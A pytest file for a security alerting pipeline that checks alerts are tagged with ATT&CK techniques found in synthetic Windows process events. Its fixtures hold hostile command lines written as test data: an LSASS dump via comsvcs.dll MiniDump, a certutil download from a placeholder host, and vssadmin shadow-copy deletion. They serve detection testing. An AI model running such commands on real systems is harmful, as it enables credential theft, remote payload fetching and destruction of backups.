"""Alerts carry the techniques that rules find in their windows' events, however windows and events arrive."""

from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from pyspark.sql import SparkSession

from pipelines.alerting.update import update_alerts
from pipelines.lake import Lake, conform
from pipelines.schemas.tables import table_named
from pipelines.settings import Settings
from tests.pipelines.tables import comparable, rows
from tests.pipelines.ttp.made_up import NOON, event

pytestmark = pytest.mark.slow

MINUTE = timedelta(minutes=1)


def process(event_id: str, image: str, command_line: str, at: datetime, **columns: Any) -> dict[str, Any]:
    return event(
        event_id, category="process", action="process_created", event_code="1", ts=at,
        process_path=f"C:\\Windows\\System32\\{image}", command_line=command_line, **columns,
    )  # fmt: skip


DUMP = process("dump", "rundll32.exe", "rundll32 comsvcs.dll, MiniDump 672 C:\\d.tmp full", NOON + MINUTE)
FETCH = process("fetch", "certutil.exe", "certutil -urlcache -f http://files.example/a a", NOON + 4 * MINUTE)
WIPE = process("wipe", "vssadmin.exe", "vssadmin delete shadows /all", NOON + MINUTE, endpoint="ws-2")
BESIDE = process("beside", "vssadmin.exe", "vssadmin delete shadows /all", NOON + 9 * MINUTE)


def score(start: datetime, endpoint: str = "ws-1", prob: float = 0.99) -> dict[str, Any]:
    return {
        "tenant": "acme", "endpoint": endpoint, "platform": "windows", "window_start": start,
        "window_end": start + 3 * MINUTE, "model_name": "m", "model_version": "1", "role": "champion", "attack_prob": prob,
        "verdict": "attack", "contributing_events": [], "n_nodes": 1, "n_edges": 1, "scored_at": start,
    }  # fmt: skip


class Tables:
    """A lake to which windows and events come bit by bit."""

    def __init__(self, spark: SparkSession, path: Path, **settings: Any) -> None:
        self.lake = Lake(spark, Settings(lake=str(path), _env_file=None, **settings))
        self.lake.create_tables()

    def add(self, name: str, *added: dict[str, Any]) -> None:
        table = table_named(name)
        made = self.lake.spark.createDataFrame(pa.Table.from_pylist(list(added), table.schema))
        self.lake.append(name, conform(made, table))

    def update(self, *windows: dict[str, Any], now: datetime = NOON + timedelta(hours=1)) -> int:
        touched = self.lake.spark.createDataFrame(
            [(one["tenant"], one["endpoint"], one["window_start"]) for one in windows],
            "tenant string, endpoint string, window_start timestamp",
        )
        return update_alerts(self.lake, touched, now=now)

    def techniques(self) -> dict[str, list[str]]:
        return {row["endpoint"]: row["ttp_techniques"] for row in rows(self.lake.settings, "alerts")}


def test_an_alert_carries_what_its_own_windows_events_tell(spark, tmp_path) -> None:
    tables = Tables(spark, tmp_path / "lake")
    tables.add("events", DUMP, FETCH, WIPE, BESIDE)
    tables.add("window_scores", score(NOON), score(NOON, "ws-2"))
    tables.update(score(NOON), score(NOON, "ws-2"))
    assert tables.techniques() == {"ws-1": ["T1003.001"], "ws-2": ["T1490"]}
    (alert,) = (row for row in rows(tables.lake.settings, "alerts") if row["endpoint"] == "ws-2")
    assert alert["ttp_tactics"] == ["impact"]
    assert "`vssadmin delete shadows /all`" in alert["ttp_explanations"][0]


def test_a_late_event_is_told_by_the_alert_that_it_falls_into_and_nothing_is_written_without_one(
    spark, tmp_path
) -> None:
    tables = Tables(spark, tmp_path / "lake")
    tables.add("events", DUMP)
    tables.add("window_scores", score(NOON), score(NOON + 3 * MINUTE))
    assert tables.update(score(NOON), score(NOON + 3 * MINUTE)) == 1
    assert tables.update(score(NOON), now=NOON + timedelta(hours=2)) == 0
    tables.add("events", FETCH)
    assert tables.update(score(NOON + 3 * MINUTE), now=NOON + timedelta(hours=3)) == 1
    (alert,) = rows(tables.lake.settings, "alerts")
    assert alert["ttp_techniques"] == ["T1003.001", "T1105", "T1140"]
    assert alert["updated_at"] == NOON + timedelta(hours=3)


def test_batches_and_their_order_change_nothing(spark, tmp_path) -> None:
    windows = [score(NOON), score(NOON + 3 * MINUTE), score(NOON, "ws-2")]
    at_once, bit_by_bit = Tables(spark, tmp_path / "once"), Tables(spark, tmp_path / "bits")
    at_once.add("events", DUMP, FETCH, WIPE)
    at_once.add("window_scores", *windows)
    at_once.update(*windows)
    bit_by_bit.add("events", WIPE, FETCH, DUMP)
    for window in reversed(windows):
        bit_by_bit.add("window_scores", window)
        bit_by_bit.update(window)
    assert comparable(rows(bit_by_bit.lake.settings, "alerts")) == comparable(rows(at_once.lake.settings, "alerts"))


def test_without_the_analyzer_alerts_name_no_techniques(spark, tmp_path) -> None:
    tables = Tables(spark, tmp_path / "lake", ttp=False)
    tables.add("events", DUMP)
    tables.add("window_scores", score(NOON))
    tables.update(score(NOON))
    assert tables.techniques() == {"ws-1": []}


def test_rules_of_a_users_folder_speak_as_well(spark, tmp_path) -> None:
    (tmp_path / "own.yml").write_text(
        "title: Ours\nid: 11111111-1111-4111-8111-111111111111\ntags: [attack.t1204]\n"
        "logsource: {product: windows, category: process_creation}\n"
        "detection: {selection: {Image|endswith: rundll32.exe}, condition: selection}\n"
    )
    tables = Tables(spark, tmp_path / "lake", ttp_rules=str(tmp_path / "own.yml"))
    tables.add("events", DUMP)
    tables.add("window_scores", score(NOON))
    tables.update(score(NOON))
    assert tables.techniques() == {"ws-1": ["T1003.001", "T1204"]}
